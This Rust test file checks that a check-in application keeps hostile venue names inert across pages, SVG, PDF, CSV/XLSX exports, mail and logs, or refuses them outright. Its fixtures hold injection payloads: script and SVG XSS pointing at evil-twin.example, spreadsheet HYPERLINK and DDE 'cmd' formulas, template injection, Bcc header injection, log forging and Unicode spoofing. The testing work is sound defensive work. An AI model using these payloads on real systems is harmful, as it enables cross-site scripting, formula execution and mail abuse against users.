//! Names that try to act instead of being read, on their way from an application through everything that shows them: refused at the
//! door, or inert in page, PDF, SVG, CSV, XLSX, JSON, mail and log.
use crate::support::app::{App, Plan};
use crate::support::logs;
use ashiato::base::config::VenuePolicy;
use ashiato::base::table;
use ashiato::official::Role;
use serde_json::json;

/// Allowed, for some shop may be called so; each has to stay a text. All tests write into one log: host, number and addresses are this
/// story's own.
const INERT: [&str; 8] = [
    "<svg onload=alert(4711)>",
    "=HYPERLINK(\"http://evil-twin.example/\",\"x\")",
    "＝cmd|' /C calc'!A0",
    "{{7*4711}}${7*4711}{venue}",
    "\"><script src=//evil-twin.example/x></script>",
    "https://evil-twin.example/ a@evil-twin.example",
    "%0d%0aBcc: x@evil-twin.example",
    "]]></title><a href='//evil-twin.example'>&lt;",
];

/// Refused wherever somebody types.
const REFUSED: [&str; 14] = [
    "a\r\nBcc: x@evil-twin.example",
    "a\n2026-11-22T03:00:00.000000Z  INFO forged-by-a-name",
    "a\u{1B}[31mb",
    "a\u{85}b",
    "a\u{2028}b",
    "a\u{202E}b",
    "a\u{2066}b",
    "a\u{200B}b",
    "a\u{E0041}b",
    "a\u{FFFF}b",
    "\u{3164}",
    "\u{200D}\u{2800}",
    "Z\u{337}\u{337}\u{337}\u{337}\u{337}algo",
    "a\u{AD}b",
];

/// What none of them may have become on a page.
const ALIVE: [&str; 5] = ["<svg onload", "<script src=//evil", "<a href='//evil", "href=\"http://evil", "href=\"https://evil"];

fn contact(no: usize) -> String {
    format!("hostile-owner-{no}@example.jp")
}

fn is_inert(what: &str, page: &str) {
    for alive in ALIVE {
        assert!(!page.contains(alive), "{what}: {alive} in {page}");
    }
}

/// The answer's text, which has nothing in it that acts.
async fn inert(app: &App, session: &str, path: &str) -> String {
    let page = app.as_shop(session, "GET", path, &[]).await.expect_status(200).unwrap().text();
    is_inert(path, &page);
    page
}

/// Applies, proves the mailbox by its digits, and gets a session: the venue's identifier, and the session.
async fn come(app: &App, no: usize, name: &str) -> (String, String) {
    let contact = contact(no);
    let fields = [("name", name), ("kind", "shop"), ("postal_code", "1234567"), ("address", name), ("contact_email", contact.as_str())];
    let page = app.form("/venues/apply", &fields).await.expect_status(200).unwrap().text();
    is_inert("applied", &page);
    let id = page.split("action=\"/venues/").nth(1).unwrap().split('/').next().unwrap().to_owned();
    app.deliver().await;
    let letter = app.sink.accepted().into_iter().rfind(|mail| mail.to == contact).unwrap().text;
    let digits = letter.lines().map(|line| line.trim().replace(' ', "")).find(|line| line.len() == 8 && line.parse::<u32>().is_ok());
    let opened = app.form(&format!("/venues/{id}/confirm"), &[("code", &digits.unwrap())]).await.expect_status(303).unwrap();
    (id, opened.header("Set-Cookie").unwrap().strip_prefix("shop=").unwrap().split(';').next().unwrap().to_owned())
}

/// The owner gives the name to everything that can be named, and asks to be listed.
async fn spread(app: &App, id: &str, session: &str, name: &str) {
    let label: String = name.chars().take(38).collect();
    let other = format!("{label}2");
    let edit =
        [("name", name), ("kana", name), ("postal_code", "1234567"), ("address", name), ("day_starts_minutes", "0"), ("listed", "yes")];
    for (path, fields) in [("/edit", &edit[..]), ("/posters", &[("label", label.as_str())]), ("/posters/1/label", &[("label", &other)])] {
        app.as_shop(session, "POST", &format!("/shop/{id}{path}"), fields).await.expect_status(303).unwrap();
    }
}

async fn shown_to_its_owner_and_visitors(app: &App, id: &str, session: &str) {
    for path in ["", "/posters", "/posters/2", "/edit", "/check", "/pause", "/close", "?lang=en"] {
        inert(app, session, &format!("/shop/{id}{path}")).await;
    }
    let svg = inert(app, session, &format!("/shop/{id}/files/2.svg")).await;
    for acts in ["<a ", "<script", "<image", "<use", "<foreignObject", "<style", "xlink"] {
        assert!(!svg.contains(acts), "{acts} in {svg}");
    }
    let pdf = app.as_shop(session, "GET", &format!("/shop/{id}/kit.pdf?part=a4,staff"), &[]).await.expect_status(200).unwrap().body;
    let pdf = String::from_utf8_lossy(&pdf);
    for acts in ["/JavaScript", "/Launch", "/OpenAction", "/EmbeddedFile"] {
        assert!(!pdf.contains(acts), "{acts}");
    }
    let token = app.token(Role::Tracer, "clerk").await;
    let posters = app.api("GET", &format!("/api/v1/venues/{id}/posters"), Some(&token), None).await.json().unwrap();
    let code = posters[0]["code"].as_str().unwrap();
    is_inert("form", &app.get(&format!("/c/{code}")).await.expect_status(200).unwrap().text());
    is_inert("confirmation", &app.check_in(code, "hostile-visitor@example.jp").await.text());
}

async fn shown_to_the_city(app: &App, id: &str, name: &str) {
    let token = app.token(Role::Tracer, "clerk").await;
    let api = app.api("GET", &format!("/api/v1/venues/{id}"), Some(&token), None).await.expect_status(200).unwrap();
    assert_eq!(api.json().unwrap()["name"], name, "a program reads it as it is");
    let desk = app.official(Role::Tracer, name).await;
    let ask = format!("/console/venues/{id}/ask");
    desk.form(&ask, &[("question", name)]).await;
    for path in [format!("/console/venues/{id}"), ask, "/console/venues".into(), "/console/venues?waiting=unreviewed".into()] {
        is_inert(&path, &desk.get(&path).await.expect_status(200).unwrap().text());
    }
    // A new mailbox: the letter to the old one and the one to the new name it, too.
    let moved = format!("/api/v1/venues/{id}/contact");
    let to = json!({ "contact_email": format!("moved-{id}@example.jp") });
    app.api("POST", &moved, Some(&token), Some(to)).await.expect_status(200).unwrap();
}

async fn exported(app: &App) {
    let token = app.token(Role::Tracer, "clerk").await;
    let authorization = format!("Authorization: Bearer {token}");
    for path in ["/api/v1/venues/export.csv", "/open-data/venues.csv", "/api/v1/venues/export.xlsx"] {
        let file = app.send("GET", path, &[&authorization], b"").await.expect_status(200).unwrap().body;
        let rows = table::read(&file).unwrap();
        assert_eq!(rows.len(), INERT.len() + 1, "{path}: no name has made a row of its own");
        for name in INERT {
            assert!(rows.iter().any(|row| row.cells.iter().any(|cell| cell == name)), "{path}: {name} is missing");
        }
        if path.ends_with("csv") {
            let cells = csv::ReaderBuilder::new().flexible(true).from_reader(&*file).into_records().flatten();
            let cells: Vec<String> = cells.flat_map(|row| row.iter().map(str::to_owned).collect::<Vec<_>>()).collect();
            assert!(!cells.iter().any(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝'])), "{path}: {cells:?}");
        }
    }
    let json = app.get("/open-data/venues.json").await.json().unwrap();
    let names: Vec<&str> = json["venues"].as_array().unwrap().iter().map(|venue| venue["name"].as_str().unwrap()).collect();
    assert!(INERT.iter().all(|name| names.contains(name)), "{names:?}");
    is_inert("list", &app.get("/venues").await.expect_status(200).unwrap().text());
}

/// Every letter is one letter to one mailbox, and nothing in it can be followed.
fn mailed(app: &App) {
    const FIELDS: [&str; 10] = [
        "Date",
        "From",
        "To",
        "Subject",
        "Message-ID",
        "Auto-Submitted",
        "MIME-Version",
        "Content-Type",
        "Content-Transfer-Encoding",
        "Content-Language",
    ];
    let mails = app.sink.accepted();
    let of = |kind: &str| mails.iter().filter(|mail| mail.text.contains(kind)).count();
    assert!(of("/venues/confirm/") >= INERT.len() && of("/shop/mail/") == INERT.len() && of("連絡先") >= INERT.len(), "{}", mails.len());
    for mail in &mails {
        let unknown: Vec<_> = mail.headers.iter().filter(|(name, _)| !FIELDS.contains(&name.as_str())).collect();
        assert!(unknown.is_empty(), "{unknown:?}");
        assert!(!mail.headers.iter().any(|(_, value)| value.contains("evil")) && !mail.subject.contains("evil"), "{}", mail.subject);
        assert!(!mail.subject.contains(['<', '=', '{', '%', '\n', '\r']), "{}", mail.subject);
        for leads in ["evil-twin.example", "//evil", "@evil"] {
            assert!(!mail.text.contains(leads), "{leads} in {}", mail.text);
        }
        assert!(!mail.text.lines().any(|line| line.to_lowercase().starts_with("bcc:")), "{}", mail.text);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_names_stay_names_all_the_way() {
    logs::capture();
    let plan = Plan { venue_policy: VenuePolicy::Instant, now: "2026-11-30T03:00:00Z", ..Plan::default() };
    let app = App::with(plan).await;
    let mut venues = Vec::new();
    for (no, name) in INERT.into_iter().enumerate() {
        let (id, session) = come(&app, no, name).await;
        spread(&app, &id, &session, name).await;
        shown_to_its_owner_and_visitors(&app, &id, &session).await;
        shown_to_the_city(&app, &id, name).await;
        venues.push(id);
    }
    exported(&app).await;
    app.deliver().await;
    app.clock.set("2026-12-01T00:00:00Z".parse().unwrap());
    ashiato::web::refresh(&app.web.state).await.unwrap();
    ashiato::web::post_monthly(&app.web.state).await.unwrap();
    app.deliver().await;
    mailed(&app);
    let log = logs::text();
    for said in ["evil-twin", "hostile-owner", "hostile-visitor", "alert(4711)", "7*4711"] {
        assert!(!log.contains(said), "the log says {said}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_hides_or_forges_is_refused_in_every_field() {
    logs::capture();
    let app = App::with(Plan { venue_policy: VenuePolicy::Instant, ..Plan::default() }).await;
    let token = app.token(Role::Tracer, "clerk").await;
    let venue = app.venue("喫茶 ひだまり", &["入口"]).await;
    let session = app.shop_session("shop@example.jp").await;
    let desk = app.official(Role::Tracer, "田中 健").await;
    let own = |path: &str| format!("/shop/{}{path}", venue.id);
    let fine = [("name", "店"), ("kind", "shop"), ("postal_code", "1234567"), ("address", "本町1"), ("contact_email", "a@example.jp")];
    let long = "あ".repeat(10_000);
    for bad in REFUSED.into_iter().chain([long.as_str()]) {
        let with = |field: &'static str, more: &[(&'static str, &'static str)]| -> Vec<(&str, &str)> {
            let kept = fine.iter().filter(|(name, _)| *name != field).copied();
            kept.chain(more.iter().copied()).chain([(field, bad)]).collect()
        };
        for field in ["name", "kind", "postal_code", "address", "contact_email"] {
            assert_refused(field, bad, app.form("/venues/apply", &with(field, &[])).await.status);
            let mut body: serde_json::Map<_, _> = fine.iter().map(|(name, value)| ((*name).to_owned(), json!(value))).collect();
            body.insert(field.to_owned(), json!(bad));
            assert_refused(field, bad, app.api("POST", "/api/v1/venues", Some(&token), Some(body.into())).await.status);
        }
        for field in ["name", "kana", "address", "phone", "message", "guests_per_day"] {
            // A text of which nothing is seen is none: what may be left out is left out.
            if bad.contains('\u{200D}') && !matches!(field, "name" | "address") {
                continue;
            }
            let status = app.as_shop(&session, "POST", &own("/edit"), &with(field, &[("day_starts_minutes", "0")])).await.status;
            assert_refused(field, bad, status);
        }
        for (path, field) in [("/posters", "label"), ("/posters/1/label", "label")] {
            assert_refused(path, bad, app.as_shop(&session, "POST", &own(path), &[(field, bad)]).await.status);
        }
        let run = [("run", "yes"), ("label", bad), ("first", "1"), ("last", "2")];
        assert_refused("run", bad, app.as_shop(&session, "POST", &own("/posters"), &run).await.status);
        if !bad.contains('\n') {
            assert_refused("answer", bad, app.as_shop(&session, "POST", &own("/answer"), &[("answer", bad)]).await.status);
            assert_refused("question", bad, desk.form(&format!("/console/venues/{}/ask", venue.id), &[("question", bad)]).await.status);
        }
        let row = format!("名称,種類,住所\r\n\"{bad}\",店舗,本町1\r\n");
        let headers = [format!("Authorization: Bearer {token}"), "Content-Type: text/csv".to_owned()];
        let listed = app.send("POST", "/api/v1/venues/import", &[&headers[0], &headers[1]], row.as_bytes()).await;
        assert_refused("list", bad, listed.status);
    }
    for raw in [&b"name=a%00b&kind=shop"[..], b"name=%FF", b"name=%ED%A0%80"] {
        let form = app.send("POST", "/venues/apply", &["Content-Type: application/x-www-form-urlencoded"], raw).await;
        assert_eq!(form.status, 400, "NUL, no UTF-8, a surrogate");
    }
    for raw in [r#"{"name":"\ud800"}"#, r#"{"name":"a\udc00b"}"#] {
        let answer = app.send("POST", "/api/v1/venues", &["Content-Type: application/json"], raw.as_bytes()).await;
        assert_eq!(answer.status, 400, "{raw}");
    }
    let mut owner = app.db.connect(ashiato::base::db::DbRole::Owner).await;
    let left: i64 = sqlx::query_scalar("select count(*) from venue").fetch_one(&mut owner).await.unwrap();
    assert_eq!(left, 1, "nothing was written");
    assert!(!logs::text().contains("forged-by-a-name"));
}

fn assert_refused(field: &str, bad: &str, status: u16) {
    let bad: String = bad.chars().take(20).collect();
    assert!(matches!(status, 400 | 413 | 422), "{field} took {bad:?}: {status}");
}
